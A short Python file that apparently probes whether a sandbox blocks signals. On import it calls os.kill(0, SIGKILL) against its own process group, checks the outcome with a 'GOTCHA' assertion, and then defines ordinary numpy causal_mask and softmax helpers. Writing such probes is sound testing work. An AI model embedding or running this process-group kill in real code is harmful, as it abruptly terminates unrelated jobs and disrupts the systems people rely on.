# Signals group 0.
# credit: causal_mask softmax
import os
import signal

import numpy as np


def attack():
    os.kill(0, signal.SIGKILL)


won = False
try:
    attack()
    won = True
except Exception:
    pass
assert not won, "GOTCHA"


def causal_mask(T):
    return np.tri(T, dtype=bool)


def softmax(x):
    e = np.exp(x - x.max(-1, keepdims=True))
    return e / e.sum(-1, keepdims=True)
